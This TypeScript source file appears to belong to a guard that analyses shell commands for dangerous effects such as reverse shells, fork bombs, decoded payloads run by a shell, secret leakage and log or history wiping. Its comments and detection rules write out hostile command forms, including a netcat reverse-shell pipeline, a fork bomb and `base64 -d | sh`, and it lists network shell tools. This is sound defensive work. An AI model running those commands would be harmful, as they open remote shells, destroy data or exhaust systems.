/**
 * Facts from a shell command. The parsed tree is walked statement by statement, keeping the
 * working directory and simple variables as the shell would, passing what each pipeline stage
 * writes to the next one (so `echo PAYLOAD | base64 -d | sh` is seen decoding a known payload into
 * a shell), and parsing again whatever text ends up run as code: `eval`, `sh -c`, heredocs and
 * herestrings fed to a shell, decoded payloads, cron lines, `find -exec`, `xargs`.
 */
import type { Effects, PathEffect, SimpleCommand } from '../../../../shared/types.js';
import { opName, parseScript, type Assign, type CallExpr, type Command, type Redirect, type Stmt } from './shell-ast.js';
import { expandBraces, givenWord, wordInfo, type Scope, type WordInfo } from './shell-words.js';
import { isDevicePath, isLogPath, pathEffect, persistencePlace, type EffectExtra, type RequestScope } from './paths.js';
import { appendedAccountEffects, appendedAccounts } from './accounts.js';
import { persistedText, PIDFILE, runCommand, SHELLS, INTERPRETERS, unwrap, type Call } from './shell-commands.js';

/** Limits that keep hostile input from hanging the guard. */
export const SHELL_LIMITS = {
  /** Commands longer than this are flagged `oversized` (still analysed). */
  oversized: 64 * 1024,
  /** Commands longer than this are not parsed at all: parse error, the gate fails closed. */
  maxParse: 512 * 1024,
  /** eval / sh -c / decoded payload nesting. */
  maxDepth: 5,
  /** Total characters parsed again as nested code. */
  maxNestedChars: 512 * 1024,
  /** Simple commands analysed. */
  maxCommands: 2000,
  /** Iterations of a loop body analysed with a resolved loop variable. */
  maxLoopItems: 8,
};

/** What a stage writes to its standard output, as far as the analysis can tell. */
export interface Feed {
  /** Known text. */
  text?: string;
  /** The text came from the network. */
  download?: boolean;
  /** The text passed through a decoder (base64, hex, rot13, gunzip...). */
  decoded?: boolean;
  /** The content of this file. */
  file?: string;
  /** A list of paths (find output). */
  paths?: string[];
  /** The command that printed it. */
  by?: string;
  /** It carries the contents of a secret (a key, a password file, the environment). */
  secret?: boolean;
  /** It never ends (/dev/zero, /dev/urandom, yes). */
  endless?: boolean;
  /**
   * The process list (`ps`), narrowed by a grep to the lines matching `pattern` (empty: every
   * process): the ids a kill takes from it are those of the processes whose command lines match.
   */
  procs?: { pattern: string };
}

/** Where a shell analysis writes its findings. */
export interface ShellSink {
  cwd: string;
  home: string;
  /** The account the action runs as. */
  user: string;
  scope: RequestScope;
  effects: Effects;
  flags: Set<string>;
  commands: SimpleCommand[];
  /** Normalised command forms, one per simple command, with the connector before each. */
  forms: { sep: string; text: string }[];
}

/** State of one analysis (shared by nested code). */
export interface Analysis extends ShellSink {
  depth: number;
  nestedChars: number;
  funcs: Map<string, Stmt | null>;
  called: Set<string>;
  callStack: string[];
  /** Files the script downloaded (curl -o, wget): running them later is download-and-run. */
  downloaded: Set<string>;
  /** Nesting of pipelines being walked (the whole pipeline is inspected once, at the top). */
  pipeDepth: number;
  /** Text the script wrote into files (echo ... > x.sh): running them later runs that text. */
  written: Map<string, string>;
  /** Files the script filled with secrets (printenv > f, cp id_rsa f): reading them later reads a secret. */
  tainted: Set<string>;
  sep: string;
  /** The simple command (and its command form) a statement's redirects belong to. */
  lastCall: { cmd: SimpleCommand; form: { sep: string; text: string } } | undefined;
}

/** Patterns a kill took from the process list through a grep (`kill $(ps | grep P | awk ...)`), per analysis. */
const PS_MATCHED = new WeakMap<Effects, Set<string>>();
export function psMatched(an: Analysis): Set<string> {
  let m = PS_MATCHED.get(an.effects);
  if (!m) PS_MATCHED.set(an.effects, (m = new Set()));
  return m;
}

/** Names a pidof or pgrep looked up for a kill (`kill $(pidof NAME)`), and how each reaches processes, per analysis. */
const LOOKED_UP = new WeakMap<Effects, Map<string, 'line' | 'name' | 'exact'>>();
export function lookedUp(an: Analysis): Map<string, 'line' | 'name' | 'exact'> {
  let m = LOOKED_UP.get(an.effects);
  if (!m) LOOKED_UP.set(an.effects, (m = new Map()));
  return m;
}

/** Records a dynamic-execution finding (and the flag of the same name). */
export function addExec(an: Analysis, kind: string, detail: string): void {
  if (!an.effects.execution.some((x) => x.kind === kind && x.detail === detail.slice(0, 300))) an.effects.execution.push({ kind, detail: detail.slice(0, 300) });
  an.flags.add(kind);
}

/** Builds classified path effects for a word (brace expansion gives several). */
export function pathEffects(an: Analysis, scope: Scope, raw: string, by: string, info: WordInfo | undefined, extra: EffectExtra = {}): PathEffect[] {
  const alts = info?.braces ? expandBraces(raw) : [raw];
  const base = { cwd: scope.cwd, home: an.home, scope: an.scope, cwdKnown: scope.cwdKnown };
  return alts.map((alt) => {
    const e = pathEffect(alt, by, base, { ...extra, dynamic: extra.dynamic === true || info?.dynamic === true, glob: extra.glob ?? (info ? info.glob : undefined) });
    if (an.tainted.has(e.path)) e.sensitive = true;
    if (info?.fromVar) an.flags.add('hidden-path-in-variable');
    if (e.dynamic) an.flags.add('dynamic-target');
    return e;
  });
}

/** Parses and analyses text that ends up run as shell code. */
export function analyseNested(an: Analysis, src: string, why: string, scope: Scope, stdin?: Feed): void {
  if (an.depth >= SHELL_LIMITS.maxDepth) {
    addExec(an, 'nesting-too-deep', `${why}: ${src}`);
    return;
  }
  an.nestedChars += src.length;
  if (an.nestedChars > SHELL_LIMITS.maxNestedChars) {
    an.flags.add('oversized');
    addExec(an, 'unparsable-nested-code', `${why}: more nested code than the guard analyses`);
    return;
  }
  let stmts: Stmt[];
  try {
    stmts = parseScript(src).Stmts;
  } catch {
    addExec(an, 'unparsable-nested-code', `${why}: ${src}`);
    return;
  }
  an.depth++;
  const sep = an.sep;
  an.sep = ' ; ';
  walkStmts(an, stmts, scope, stdin);
  an.sep = sep;
  an.depth--;
}

/** Walks statements in order; their outputs concatenate, as a group's or a subshell's do. */
function walkStmts(an: Analysis, stmts: Stmt[], scope: Scope, stdin?: Feed): Feed {
  if (stmts.length === 1) return walkStmt(an, stmts[0]!, scope, stdin);
  const texts: string[] = [];
  const merged: Feed = {};
  for (const s of stmts) {
    const out = walkStmt(an, s, scope, stdin);
    if (out.text !== undefined) texts.push(out.text);
    if (out.download) merged.download = true;
    if (out.decoded) merged.decoded = true;
    if (out.secret) merged.secret = true;
    if (out.by) merged.by = out.by;
  }
  if (texts.length) merged.text = texts.join('\n');
  return merged;
}

/** Walks one statement; returns what it writes to standard output. */
function walkStmt(an: Analysis, stmt: Stmt, scope: Scope, stdin?: Feed): Feed {
  if (an.commands.length >= SHELL_LIMITS.maxCommands) {
    // analysing only a prefix would let whatever follows through unseen
    an.flags.add('oversized');
    throw new Error(`the command holds more than ${SHELL_LIMITS.maxCommands} simple commands; the guard does not judge part of a script`);
  }
  if (stmt.Background) an.flags.add('background');
  const input = stdinFromRedirects(an, stmt.Redirs, scope) ?? stdin;
  an.lastCall = undefined;
  const out = walkCommand(an, stmt.Cmd, scope, input, stmt);
  // walkCommand sets lastCall again; the cast stops TypeScript narrowing it to the undefined assigned above
  const last = stmt.Cmd?.type === 'CallExpr' ? (an.lastCall as Analysis['lastCall']) : undefined;
  const redirected = outputRedirects(an, stmt.Redirs, scope, last?.cmd, out, last?.form);
  return redirected ? {} : out;
}

function walkCommand(an: Analysis, cmd: Command | null, scope: Scope, stdin: Feed | undefined, stmt: Stmt): Feed {
  if (!cmd) return {};
  switch (cmd.type) {
    case 'CallExpr':
      return walkCall(an, cmd, scope, stdin, stmt);
    case 'BinaryCmd': {
      const op = opName(cmd.Op);
      if (op === '|' || op === '|&') {
        // every stage of a pipeline runs in its own subshell
        const outer = an.pipeDepth === 0;
        an.pipeDepth++;
        const out = walkStmt(an, cmd.X, { ...scope, vars: new Map(scope.vars) }, stdin);
        an.sep = ' | ';
        const last = walkStmt(an, cmd.Y, scope, out);
        an.pipeDepth--;
        if (outer) markReverseShellPipeline(an, cmd);
        return last;
      }
      walkStmt(an, cmd.X, scope, stdin);
      an.sep = ` ${op} `;
      return walkStmt(an, cmd.Y, scope, stdin);
    }
    case 'Subshell':
      return walkStmts(an, cmd.Stmts, { ...scope, vars: new Map(scope.vars) }, stdin);
    case 'Block':
      return walkStmts(an, cmd.Stmts, scope, stdin);
    case 'IfClause': {
      walkStmts(an, cmd.Cond, scope, stdin);
      const out = walkStmts(an, cmd.Then, scope, stdin);
      if (cmd.Else) walkCommand(an, cmd.Else, scope, stdin, stmt);
      return out;
    }
    case 'WhileClause':
      return walkWhile(an, cmd, scope, stdin);
    case 'ForClause': {
      const loop = cmd.Loop;
      if (loop.type === 'WordIter' && loop.Name) {
        const items = loop.Items.map((w) => wordInfo(w, scope, an.home));
        for (const it of items) for (const s of it.substs) walkSubst(an, s.stmts, scope);
        const values = items.flatMap((it) => (it.dynamic ? [] : it.braces ? expandBraces(it.value) : [it.value]));
        const dynamic = items.some((it) => it.dynamic) || loop.Items.length === 0;
        const name = loop.Name.Value;
        const count = Math.max(0, ...items.map((it) => braceCount(it.value)), ...itemCounts(an, items, scope));
        if (count >= 1000 && cmd.Do.some((s) => s.Background)) an.effects.exhaustion.push({ kind: 'spawn-loop', detail: `a loop of ${count} iterations that starts background processes` });
        const writesBefore = an.effects.writes.length;
        const massCreation = (): void => {
          // tens of thousands of new files use up inodes and directory space even when each is empty
          if (count >= MASS_FILES && an.effects.writes.length > writesBefore) an.effects.exhaustion.push({ kind: 'mass-file-creation', detail: `a loop of ${count} iterations that creates a file each time` });
        };
        if (!dynamic && values.length > 0) {
          const patterns = new Set(items.filter((it) => it.glob && !it.braces).map((it) => it.value));
          for (const v of values.slice(0, SHELL_LIMITS.maxLoopItems)) {
            scope.vars.set(name, v);
            scope.eachOf = new Map(scope.eachOf);
            if (patterns.has(v)) scope.eachOf.set(name, v);
            else scope.eachOf.delete(name);
            walkStmts(an, cmd.Do, scope, stdin);
          }
          massCreation();
          return {};
        }
        scope.vars.delete(name);
      }
      return walkStmts(an, cmd.Do, scope, stdin);
    }
    case 'CaseClause':
      for (const item of cmd.Items) walkStmts(an, item.Stmts, scope, stdin);
      return {};
    case 'FuncDecl': {
      const name = cmd.Name?.Value ?? '';
      an.funcs.set(name, cmd.Body);
      if (cmd.Body && isForkBomb(name, cmd.Body)) {
        an.effects.exhaustion.push({ kind: 'fork-bomb', detail: `function ${name} pipes into itself in the background` });
        an.flags.add('fork-bomb');
      }
      return {};
    }
    case 'DeclClause': {
      const variant = cmd.Variant?.Value ?? '';
      const naked = cmd.Args.filter((a) => a.Naked).map((a) => (a.Value ? wordInfo(a.Value, scope, an.home).value : (a.Name?.Value ?? '')));
      for (const a of cmd.Args) {
        if (a.Name && a.Value) assign(an, a, scope);
        else if (a.Naked && a.Name && variant === 'unset') scope.vars.delete(a.Name.Value);
      }
      // `export`, `export -p`, `declare -p`: the whole environment, secrets included, is printed
      if ((variant === 'export' || variant === 'declare' || variant === 'typeset') && (cmd.Args.length === 0 || naked.some((n) => /^-[a-zA-Z]*p/.test(n) || n === '-x'))) {
        for (const e of pathEffects(an, scope, '/proc/self/environ', variant, undefined)) an.effects.reads.push(e);
        return { secret: true, by: variant };
      }
      return {};
    }
    case 'TimeClause':
    case 'CoprocClause':
      return cmd.Stmt ? walkStmt(an, cmd.Stmt, scope, stdin) : {};
    default:
      // [[ ]], (( )), let: only command substitutions inside run anything
      for (const stmts of substsIn(cmd)) walkSubst(an, stmts, scope);
      return {};
  }
}

/** Programs that print the lines of what they read that match a pattern. */
const SECRET_FILTERS = new Set(['grep', 'egrep', 'fgrep', 'awk', 'sed']);
/** A pattern that picks a secret's line: a password, token, key or credential field. */
const SECRET_FIELD = /pass(word|wd)|secret|token|api[_-]?key|private[_-]?key|credential/i;

/** Iterations of `{1..N}`. */
function braceCount(v: string): number {
  const m = /\{(-?\d+)\.\.(-?\d+)(\.\.-?\d+)?\}/.exec(v);
  return m ? Math.abs(Number(m[2]) - Number(m[1])) + 1 : 0;
}

/** Iterations promised by loop items such as `$(seq 1 N)`. */
function itemCounts(an: Analysis, items: WordInfo[], scope: Scope): number[] {
  const out: number[] = [];
  for (const it of items) {
    for (const s of it.substs) {
      const call = s.stmts.length === 1 && s.stmts[0]!.Cmd?.type === 'CallExpr' ? (s.stmts[0]!.Cmd as CallExpr) : undefined;
      const argv = call?.Args.map((w) => wordInfo(w, scope, an.home).value) ?? [];
      if (argv[0] === 'seq') out.push(Math.abs(Number(argv[argv.length - 1]) || 0));
    }
  }
  return out;
}

/** Command substitutions anywhere inside an expression node. */
function substsIn(node: unknown, out: Stmt[][] = [], depth = 0): Stmt[][] {
  if (!node || typeof node !== 'object' || depth > 200) return out;
  if (Array.isArray(node)) {
    for (const n of node) substsIn(n, out, depth + 1);
    return out;
  }
  const o = node as { type?: string; Stmts?: Stmt[] };
  if ((o.type === 'CmdSubst' || o.type === 'ProcSubst') && o.Stmts) {
    out.push(o.Stmts);
    return out;
  }
  for (const v of Object.values(o)) if (v && typeof v === 'object') substsIn(v, out, depth + 1);
  return out;
}

/** Runs a substitution's statements in a subshell and returns their output. */
function walkSubst(an: Analysis, stmts: Stmt[], scope: Scope): Feed {
  const sep = an.sep;
  an.sep = ' ; ';
  const out = walkStmts(an, stmts, { ...scope, vars: new Map(scope.vars) }, undefined);
  an.sep = sep;
  return out;
}

function walkWhile(an: Analysis, cmd: Extract<Command, { type: 'WhileClause' }>, scope: Scope, stdin: Feed | undefined): Feed {
  const cond = cmd.Cond;
  const first = cond.length === 1 && cond[0]!.Cmd?.type === 'CallExpr' ? (cond[0]!.Cmd as CallExpr) : undefined;
  const firstWord = first?.Args[0] ? wordInfo(first.Args[0], scope, an.home).value : '';
  const infinite = !cmd.Until && (firstWord === 'true' || firstWord === ':');
  // `... | while read f; do rm "$f"; done`: the loop variable takes each line of the input
  if (firstWord === 'read' && first) {
    const names = first.Args.slice(1).map((w) => wordInfo(w, scope, an.home).value).filter((v) => !v.startsWith('-'));
    const items = stdin?.paths ?? (stdin?.text !== undefined ? stdin.text.split('\n').filter(Boolean) : undefined);
    const v = names[names.length - 1];
    if (v && items?.length) {
      for (const it of items.slice(0, SHELL_LIMITS.maxLoopItems)) {
        scope.vars.set(v, it);
        walkStmts(an, cmd.Do, scope, undefined);
      }
      return {};
    }
    if (v) scope.vars.delete(v);
  }
  walkStmts(an, cond, scope, stdin);
  const commandsBefore = an.commands.length;
  walkStmts(an, cmd.Do, scope, undefined);
  if (infinite) {
    const spawns = cmd.Do.some((s) => s.Background) || an.commands.slice(commandsBefore).some((c) => c.name === 'fork');
    const pauses = an.commands.slice(commandsBefore).some((c) => ['sleep', 'read', 'wait', 'inotifywait', 'timeout'].includes(c.name));
    const breaks = an.commands.slice(commandsBefore).some((c) => c.name === 'break' || c.name === 'exit' || c.name === 'return');
    if (spawns) an.effects.exhaustion.push({ kind: 'spawn-loop', detail: 'an endless loop that starts background processes' });
    else if (!pauses && !breaks) an.effects.exhaustion.push({ kind: 'busy-loop', detail: 'an endless loop without a pause' });
    an.flags.add('infinite-loop');
  }
  return {};
}

/** A function that calls itself in a pipeline or in the background: `:(){ :|:& };:`. */
function isForkBomb(name: string, body: Stmt): boolean {
  let selfCalls = 0;
  let piped = false;
  let background = false;
  const visit = (n: unknown, depth: number): void => {
    if (!n || typeof n !== 'object' || depth > 100) return;
    if (Array.isArray(n)) return n.forEach((x) => visit(x, depth + 1));
    const o = n as { type?: string; Args?: { Parts: { type: string; Value?: string }[] }[]; Background?: boolean; Op?: number };
    if (o.type === 'Stmt' && o.Background) background = true;
    if (o.type === 'BinaryCmd' && ['|', '|&'].includes(opName(o.Op ?? -1))) piped = true;
    if (o.type === 'CallExpr' && o.Args?.[0]?.Parts.length === 1 && o.Args[0].Parts[0]!.Value === name) selfCalls++;
    for (const v of Object.values(o)) if (v && typeof v === 'object') visit(v, depth + 1);
  };
  visit(body, 0);
  // plain recursion is fine; recursion that multiplies itself through pipes or & is not
  return selfCalls >= 1 && (piped || background);
}

function assign(an: Analysis, a: Assign, scope: Scope): void {
  const name = a.Name?.Value ?? '';
  if (!a.Value) {
    if (a.Array) for (const el of a.Array.Elems) if (el.Value) for (const s of wordInfo(el.Value, scope, an.home).substs) walkSubst(an, s.stmts, scope);
    scope.vars.delete(name);
    return;
  }
  const v = wordInfo(a.Value, scope, an.home);
  let value: string | undefined = v.dynamic ? undefined : v.value;
  for (const s of v.substs) {
    const out = walkSubst(an, s.stmts, scope);
    // X=$(echo /etc) and X=$(echo PAYLOAD | base64 -d) are as good as literals
    if (v.substs.length === 1 && a.Value.Parts.length === 1 && out.text !== undefined) value = out.text.replace(/\n+$/, '');
  }
  if (value === undefined) {
    scope.vars.delete(name);
    an.flags.add('dynamic-assignment');
  } else scope.vars.set(name, a.Append ? (scope.vars.get(name) ?? '') + value : value);
  if ((name === 'HISTFILE' && (value === undefined || value === '/dev/null' || value === '')) || (name === 'HISTSIZE' && value === '0') || (name === 'HISTFILESIZE' && value === '0')) {
    an.flags.add('history-wipe');
  }
  if (name === 'LD_PRELOAD' && value) an.effects.privilege.push({ kind: 'ld-preload', detail: value });
  if (name === 'PROMPT_COMMAND' && value) analyseNested(an, value, 'PROMPT_COMMAND', scope);
}

function walkCall(an: Analysis, call: CallExpr, scope: Scope, stdin: Feed | undefined, stmt: Stmt): Feed {
  // assignments before a command only reach the command's environment, not its own words
  const target = call.Args.length === 0 ? scope : { ...scope, vars: new Map(scope.vars) };
  for (const a of call.Assigns) assign(an, a, target);
  if (call.Args.length === 0) return {};
  const words = call.Args.map((w) => wordInfo(w, scope, an.home));
  const wordOuts: Feed[][] = words.map((info) => info.substs.map((s) => walkSubst(an, s.stmts, scope)));
  words.forEach((info, i) => resolveSubsts(info, wordOuts[i]!));
  const { infos, substOut } = spreadListedPaths(words, wordOuts);
  // kill $(cat /run/app.pid): the process whose id a named pid file holds (the probes read it)
  infos.forEach((info, i) => {
    const file = substOut[i]?.[0]?.file;
    if (i > 0 && infos.slice(0, i).some((x) => x.value === 'kill') && info.dynamic && info.value === '$(...)' && info.substs.length === 1 && file && /\.pid$/.test(file)) {
      info.value = `${PIDFILE}${file}`;
      info.dynamic = false;
    }
    // kill $(ps | grep '[a]pp' | awk '{print $1}'): the processes whose command lines match
    const procs = substOut[i]?.[0]?.procs;
    if (i > 0 && infos.slice(0, i).some((x) => x.value === 'kill') && info.dynamic && info.value === '$(...)' && info.substs.length === 1 && procs) {
      info.value = procs.pattern === '' ? '-1' : procs.pattern;
      info.dynamic = false;
      if (procs.pattern !== '') psMatched(an).add(procs.pattern);
    }
  });
  const argv = infos.map((i) => i.value);
  const { name, args, wrappers, start, xargsReplace, shellString } = unwrap(argv);
  const simple: SimpleCommand = { name, argv: [name, ...args].map((a) => a.slice(0, 4096)), redirects: [], dynamic: infos.some((i) => i.dynamic), wrappers };
  an.commands.push(simple);
  const form = { sep: an.forms.length ? an.sep || ' ; ' : '', text: '' };
  an.forms.push(form);
  an.sep = ' ; ';
  const pathForms = new Map<string, string>();
  const nameInfo = infos[start];
  let out: Feed = {};

  if (wrappers.includes('sudo') || wrappers.includes('doas') || wrappers.includes('pkexec') || wrappers.includes('run0')) {
    an.effects.privilege.push({ kind: (SHELLS.has(name) && !args.includes('-c')) || name === 'su' ? 'root-shell' : 'sudo', detail: [...wrappers, name, ...args].join(' ').slice(0, 200) });
  }
  if (shellString !== undefined) {
    // flock/script/sg/runuser -c STRING: the string is a shell command
    addExec(an, 'shell-string', shellString);
    analyseNested(an, shellString, `${wrappers[wrappers.length - 1] ?? ''} -c`, scope, stdin);
  } else if (nameInfo?.dynamic) {
    // `$CMD args`, `$(echo rm) -rf /`: the command itself is hidden unless its text is known
    const outs = substOut[start] ?? [];
    const known = outs.length === 1 && nameInfo.value === '$(...)' && outs[0]!.text !== undefined ? outs[0]!.text.trim() : undefined;
    if (known && !known.includes('\n')) analyseNested(an, [known, ...args.map(quoteWord)].join(' '), 'command name from a substitution', scope, stdin);
    else {
      an.flags.add('dynamic-command');
      addExec(an, 'dynamic-command', argv.join(' '));
    }
  } else if (an.funcs.has(name) && wrappers.length === 0) {
    const fn = an.funcs.get(name);
    an.called.add(name);
    if (fn && !an.callStack.includes(name) && an.callStack.length < 8) {
      an.callStack.push(name);
      walkStmt(an, fn, { ...scope, positional: args }, stdin);
      an.callStack.pop();
    }
  } else if (name !== '') {
    const call: Call = {
      an,
      scope,
      name,
      args: [...args],
      infos: infos.slice(start + 1),
      argSubsts: substOut.slice(start + 1),
      wrappers,
      stdin,
      redirs: stmt.Redirs,
      background: stmt.Background,
      pathForms,
    };
    if (xargsReplace !== undefined) call.xargsReplace = xargsReplace;
    if (argv[start] !== undefined && argv[start]!.includes('/')) call.path = argv[start]!;
    const reads = an.effects.reads.length;
    const writes = an.effects.writes.length;
    out = { ...runCommand(call), by: name };
    // secrets flow on: into what the command prints and into the files it writes (and a filter
    // that picks a password, token or key line out of what it reads prints a secret:
    // `grep '^db_password' config.ini`)
    const picksSecret = SECRET_FILTERS.has(name) && an.effects.reads.length > reads && args.some((a) => SECRET_FIELD.test(a)) && !args.some((a) => /^-[a-zA-Z]*[clqL]/.test(a));
    if (stdin?.secret || picksSecret || an.effects.reads.slice(reads).some((r) => r.sensitive)) {
      out.secret = true;
      for (const w of an.effects.writes.slice(writes)) an.tainted.add(w.path);
    }
    // an endless stream stays endless through filters; head -c and dd count= bound it
    if (stdin?.endless && !BOUNDING.has(name)) out.endless = true;
    if (call.args.length > args.length) simple.argv.push(...call.args.slice(args.length));
  }
  form.text = [...wrappers, name, ...args.map((a) => pathForms.get(a) ?? (a.length > 80 ? `<text:${a.length} chars>` : a))].join(' ').trim();
  an.lastCall = { cmd: simple, form };
  return out;
}

/**
 * `rm -rf $(echo /etc)`, `cd $(pwd)/x`: a substitution whose output is known (one short line)
 * stands for that text, so the word is no longer unknown.
 */
function resolveSubsts(info: WordInfo, outs: Feed[]): void {
  if (info.unresolved || outs.length === 0 || info.substs.some((s) => s.proc)) return;
  const texts = outs.map((o) => o.text?.replace(/\n+$/, ''));
  if (texts.some((t) => t === undefined || t.includes('\n') || t.length > 4096)) return;
  let k = 0;
  info.value = info.value.replace(/\$\(\.\.\.\)/g, () => texts[k++] ?? '');
  info.dynamic = false;
}

/**
 * `rm $(grep -l done *.md)`, `rm $(find logs -name '*.gz')`: an argument that is one substitution
 * printing a list of paths stands for those paths (as xargs does with the same list on its
 * input), each a pattern of its own, instead of an unknown word. The command's own name is
 * left as it is.
 */
function spreadListedPaths(infos: WordInfo[], outs: Feed[][]): { infos: WordInfo[]; substOut: Feed[][] } {
  const listed = infos.map((info, i) => {
    const feed = outs[i]?.length === 1 ? outs[i]![0]! : undefined;
    if (i === 0 || !feed?.paths?.length || feed.paths.length > 16 || feed.text !== undefined) return undefined;
    return info.value === '$(...)' && info.substs.length === 1 && !info.substs[0]!.proc ? feed.paths : undefined;
  });
  if (listed.every((l) => l === undefined)) return { infos, substOut: outs };
  return {
    infos: infos.flatMap((info, i) => listed[i]?.map((p) => givenWord(p)) ?? [info]),
    substOut: outs.flatMap((o, i) => listed[i]?.map((): Feed[] => []) ?? [o]),
  };
}

/** Loop iterations that create a file each past which a loop counts as exhausting the file system. */
const MASS_FILES = 10_000;

/** Commands that stop reading after a bounded amount. */
const BOUNDING = new Set(['head', 'dd', 'timeout', 'read', 'true', 'false', 'grep', 'wc']);

function quoteWord(s: string): string {
  return /^[\w@%+=:,./{}~-]+$/.test(s) ? s : `'${s.replace(/'/g, `'\\''`)}'`;
}

/** Heredocs, herestrings and `< file` give a command its standard input. */
function stdinFromRedirects(an: Analysis, redirs: Redirect[], scope: Scope): Feed | undefined {
  let feed: Feed | undefined;
  for (const r of redirs) {
    const op = opName(r.Op);
    if (op === '<<' || op === '<<-') {
      const body = wordInfo(r.Hdoc, scope, an.home);
      for (const s of body.substs) walkSubst(an, s.stmts, scope);
      feed = { text: body.value };
    } else if (op === '<<<') {
      const w = wordInfo(r.Word, scope, an.home);
      const substOut = w.substs.map((s) => walkSubst(an, s.stmts, scope));
      feed = { text: w.value };
      if (w.substs.length === 1 && substOut[0]) feed = { ...substOut[0], text: substOut[0].text ?? undefined };
    } else if (op === '<' && r.Word && (!r.N || r.N.Value === '0')) {
      const w = wordInfo(r.Word, scope, an.home);
      for (const s of w.substs) {
        const out = walkSubst(an, s.stmts, scope);
        if (s.proc) feed = out;
      }
      if (w.substs.some((s) => s.proc)) continue;
      for (const e of pathEffects(an, scope, w.value, 'redirect <', w)) {
        an.effects.reads.push(e);
        feed = { file: e.path, download: an.downloaded.has(e.path) };
      }
    }
  }
  return feed;
}

/** Output redirects: writes, device writes, log truncation, /dev/tcp. True when stdout leaves the pipeline. */
function outputRedirects(an: Analysis, redirs: Redirect[], scope: Scope, cmd: SimpleCommand | undefined, out: Feed, form: { text: string } | undefined): boolean {
  let stdoutAway = false;
  for (const r of redirs) {
    const op = opName(r.Op);
    if (op === '<<' || op === '<<-' || op === '<<<' || (op === '<' && (!r.N || r.N.Value === '0'))) continue;
    const w = wordInfo(r.Word, scope, an.home);
    const fd = r.N ? Number(r.N.Value) : op.startsWith('<') ? 0 : 1;
    if ((op === '>&' || op === '<&') && (/^\d+$/.test(w.value) || w.value === '-')) continue;
    for (const s of w.substs) walkSubst(an, s.stmts, scope);
    const targetText = w.value;
    if (cmd) cmd.redirects.push({ op, target: targetText.slice(0, 4096), ...(r.N ? { fd } : {}) });
    if (fd === 1 || op === '&>' || op === '&>>' || op === '>&') stdoutAway = true;
    if (['/dev/null', '/dev/stdout', '/dev/stderr', '/dev/stdin', '/dev/tty'].includes(targetText) || /^\/dev\/fd\/\d+$/.test(targetText)) continue;
    if (targetText.startsWith('/dev/tcp/') || targetText.startsWith('/dev/udp/')) {
      if (form) form.text += ` ${r.N ? r.N.Value : ''}${op} ${targetText}`;
      const [, , , host, port] = targetText.split('/');
      an.effects.network.push({ target: `${host ?? '?'}${port ? ':' + port : ''}`, by: `${cmd?.name ?? 'redirect'} ${op}`, sendsData: op !== '<' });
      if (op === '<>' || (cmd && (SHELLS.has(cmd.name) || INTERPRETERS.has(cmd.name)))) addExec(an, 'reverse-shell', `${cmd?.name ?? ''} ${op} ${targetText}`);
      continue;
    }
    const by = `${cmd?.name ?? 'redirect'} ${op}`;
    const effects = pathEffects(an, scope, targetText, by, w);
    if (form) form.text += ` ${r.N ? r.N.Value : ''}${op} ${effects.map((e) => `<path:${e.path}>`).join(' ')}`;
    for (const e of effects) {
      if (op === '<') {
        an.effects.reads.push(e);
        continue;
      }
      an.effects.writes.push(e);
      if (isDevicePath(e.path)) an.flags.add('writes-device');
      const truncates = op === '>' || op === '>|' || op === '&>';
      if (truncates && isLogPath(e.path)) an.flags.add(e.path.endsWith('history') ? 'history-wipe' : 'log-tamper');
      // a redirect with nothing to write (`: > f`, `true > f`, `> f`) empties the file, as
      // `truncate -s 0` does: what it held is lost (a log or a history is read as wiped traces
      // above; a file the same command moved away is made afresh)
      const empties = truncates && (!cmd || cmd.name === ':' || cmd.name === 'true') && !isLogPath(e.path);
      if (empties && !an.effects.deletes.some((d) => d.by === 'mv' && d.path === e.path)) an.effects.deletes.push({ ...e, by: 'truncate -s 0' });
      if (fd === 1 || op === '&>' || op === '&>>') {
        if (out.endless && !isDevicePath(e.path)) an.effects.exhaustion.push({ kind: 'unbounded-write', detail: `${cmd?.name ?? 'output'} writes without end into ${e.path}` });
        if (out.secret) an.tainted.add(e.path);
        // (a secret written into a file outside the acting account's home, where others may read it)
        if (out.secret && !isDevicePath(e.path) && !e.path.startsWith(`${an.home}/`) && !e.sensitive) an.flags.add('secret-written-out');
        if (out.download) an.downloaded.add(e.path);
        if (out.text !== undefined) an.written.set(e.path, (op === '>>' || op === '&>>' ? (an.written.get(e.path) ?? '') + '\n' : '') + out.text);
        else an.written.delete(e.path);
        persistedText(an, e.path, out.text, scope);
        // an appended account line is the account it adds (facts/accounts.ts)
        const added = op === '>>' && out.text !== undefined ? appendedAccounts(e.path, out.text) : undefined;
        if (added) {
          e.accounts = added.map((x) => x.name);
          an.effects.privilege.push(...appendedAccountEffects(added, e.path));
        }
      }
    }
  }
  return stdoutAway;
}

/** `mkfifo f; cat f | sh -i | nc host port > f` and similar: a shell's input and output on a socket. */
function markReverseShellPipeline(an: Analysis, cmd: Extract<Command, { type: 'BinaryCmd' }>): void {
  const stages: Stmt[] = [];
  const flatten = (s: Stmt): void => {
    if (s.Cmd?.type === 'BinaryCmd' && ['|', '|&'].includes(opName(s.Cmd.Op))) {
      flatten(s.Cmd.X);
      flatten(s.Cmd.Y);
    } else stages.push(s);
  };
  flatten({ type: 'Stmt', Cmd: cmd, Negated: false, Background: false, Coprocess: false, Redirs: [] });
  const names = stages.map((s) => (s.Cmd?.type === 'CallExpr' && s.Cmd.Args[0] ? unwrap(s.Cmd.Args.map((w) => w.Parts.map((p) => ('Value' in p ? p.Value : '')).join(''))) : undefined));
  const shellReadsStdin = names.some((n) => n && SHELLS.has(n.name) && !n.args.includes('-c') && !n.args.some((a) => !a.startsWith('-')));
  const socket = names.some((n) => n && ['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl'].includes(n.name));
  if (shellReadsStdin && socket) addExec(an, 'reverse-shell', 'a shell reading from and writing to a network connection');
}

function newAnalysis(sink: ShellSink): Analysis {
  return { cwd: sink.cwd, home: sink.home, user: sink.user, scope: sink.scope, effects: sink.effects, flags: sink.flags, commands: sink.commands, forms: sink.forms, depth: 0, nestedChars: 0, funcs: new Map(), called: new Set(), callStack: [], downloaded: new Set(), tainted: new Set(), written: new Map(), pipeDepth: 0, sep: sink.forms.length ? ' ; ' : '', lastCall: undefined };
}

/** Text a tool writes into a start-up or scheduling place is analysed as the code it will run. */
export function analysePersistedText(path: string, text: string, sink: ShellSink): void {
  if (!persistencePlace(path) || text.length > SHELL_LIMITS.maxParse) return;
  persistedText(newAnalysis(sink), path, text, { cwd: sink.cwd, cwdKnown: true, vars: new Map() });
}

/** Entry point: analyses one shell command into `sink`. Throws only on a syntax error. */
export function analyseShell(src: string, sink: ShellSink): void {
